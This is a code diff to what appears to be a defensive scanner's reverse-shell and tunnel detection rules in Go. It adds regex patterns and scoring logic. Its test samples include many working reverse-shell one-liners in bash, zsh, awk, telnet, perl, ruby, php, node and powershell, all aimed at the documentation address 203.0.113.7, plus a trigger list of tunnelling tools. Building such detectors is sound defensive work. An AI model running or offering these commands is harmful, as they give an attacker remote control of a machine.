@@ -34,6 +34,9 @@ func remoteControl() []Rule {
 				{Text: "0<&196;exec 196<>/dev/tcp/203.0.113.7/4242; sh <&196 >&196 2>&196"},
 				{Text: "nc -lvp 4444 -e /bin/bash"},
 				{Text: "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s"},
+				{Text: "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"},
+				{Text: "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (42) { do { s |& getline c; while ((c |& getline) > 0) print $0 |& s } while (c != \"exit\") }}'"},
+				{Text: "telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445"},
 				{Path: "a.py", Text: `os.system("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'")`},
 			},
 			Misses: []Sample{
@@ -60,6 +63,8 @@ func remoteControl() []Rule {
 				{Text: "php -r '$s=fsockopen(\"203.0.113.7\",443);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"},
 				{Path: "a.js", Text: "const net=require('net'),sh=require('child_process').spawn('/bin/sh');\nconst c=new net.Socket();\nc.connect(4444,'203.0.113.7',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});"},
 				{Text: "perl -e 'use Socket;$i=\"203.0.113.7\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(443,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'"},
+				{Text: "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.7:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"},
+				{Text: "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.7\",\"4444\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'"},
 				{Text: "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',443);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(iex $t 2>&1)}\""},
 				{Text: "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.7\",443).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"},
 			},
@@ -95,7 +100,7 @@ func remoteControl() []Rule {
 			Title:    "Local service opened to the internet",
 			Why:      "A tunnel lets anybody who knows its address reach a service on this machine, past the firewall.",
 			Fix:      "Close the tunnel after use, and put authentication before the service.",
-			Refs:     []string{"ASI03", "AML.T0049"},
+			Refs:     []string{"ASI03"},
 			In:       text.Code | text.Prose | text.Data | text.Comment,
 			Triggers: []string{"ngrok http", "ngrok tcp", "ngrok start", "cloudflared tunnel", "cloudflared access", "localtunnel", "lt --port", "ssh -r", "ssh -nr", "ssh -fnr", "ssh -n -r", "serveo.net", "localhost.run", "bore local", "chisel client", "frpc ", "pinggy"},
 			Judge:    judgeTunnel,
@@ -128,30 +133,33 @@ func judgeReverseShell(s *Scene) []Hit {
 			}
 			if ok && !slices.ContainsFunc(hits, func(h Hit) bool { return h.Pos == c.Pos }) {
 				h := c.Hit()
-				h.Severity, h.Confidence = s.peer(to)
+				h.Confidence = s.peer(to)
+				if h.Confidence == Unlikely && s.runsAsWritten(c) && writtenOut(to) {
+					h.Confidence = Likely // nobody documents in a script
+				}
 				hits = append(hits, h)
 			}
 		}
 	})
-	if m := execDevTCP().FindStringSubmatchIndex(s.Text); m != nil && len(hits) == 0 {
-		h := Hit{Pos: m[0], End: m[1]}
-		h.Severity, h.Confidence = s.peer([]string{s.Text[m[2]:m[3]]})
-		hits = append(hits, h)
+	for _, pattern := range []*expression{execDevTCP(), awkSocket(), zshSocket()} {
+		if m := pattern.FindStringSubmatchIndex(s.Text); m != nil && len(hits) == 0 {
+			hits = append(hits, Hit{Pos: m[0], End: m[1], Severity: Critical, Confidence: s.peer([]string{s.Text[m[2]:m[3]]})})
+		}
 	}
 	return hits
 }
 
 // peer rates the other end of a shell: no owner of a machine has business with
 // it, so only placeholders lower the confidence.
-func (s *Scene) peer(to []string) (Severity, Confidence) {
+func (s *Scene) peer(to []string) Confidence {
 	for _, t := range to {
 		switch host.Parse(s.resolve("tcp://" + strings.TrimPrefix(t, "tcp://"))).Class {
 		case host.Local, host.Example:
 		default:
-			return Critical, Certain
+			return Certain
 		}
 	}
-	return Critical, Unlikely
+	return Unlikely
 }
 
 // remoteShell tells to which host c connects a shell by itself.
@@ -167,11 +175,7 @@ func remoteShell(c shell.Call) (to []string, ok bool) {
 			}
 		}
 	case "socat":
-		joined := ""
-		for _, w := range c.Args {
-			joined += " " + w.Text
-		}
-		if lower := strings.ToLower(joined); (strings.Contains(lower, "exec:") || strings.Contains(lower, "system:")) && (strings.Contains(lower, "sh") || strings.Contains(lower, "cmd")) {
+		if lower := strings.ToLower(commandLine(c)); (strings.Contains(lower, "exec:") || strings.Contains(lower, "system:")) && (strings.Contains(lower, "sh") || strings.Contains(lower, "cmd")) {
 			return targets(c), strings.Contains(lower, "tcp") || strings.Contains(lower, "openssl") || strings.Contains(lower, "udp")
 		}
 	}
@@ -225,4 +229,8 @@ func interactive(calls []shell.Call) bool {
 }
 
 //nolint:gochecknoglobals // compiled on first use
-var execDevTCP = lazy(`exec\s+\d{1,3}<>\s*/dev/(?:tcp|udp)/([^\s;&|]+)[^\n]{0,40}(?:\n|.){0,80}(?:\bsh\b|while\s+read|\beval\b)[^\n]{0,80}[<>]&`)
+var (
+	execDevTCP = lazy(`exec\s+\d{1,3}<>\s*/dev/(?:tcp|udp)/([^\s;&|]+)[^\n]{0,40}(?:\n|.){0,80}(?:\bsh\b|while\s+read|\beval\b)[^\n]{0,80}[<>]&`)
+	awkSocket  = lazy(`awk\b[^\n]{0,80}/inet/(?:tcp|udp)/0/([^/"\s]+)/\d+`)
+	zshSocket  = lazy(`\bztcp\s+([\w.-]+)[^\n]{0,80}\bzsh\b[^\n]{0,40}>&\s*\$REPLY`)
+)
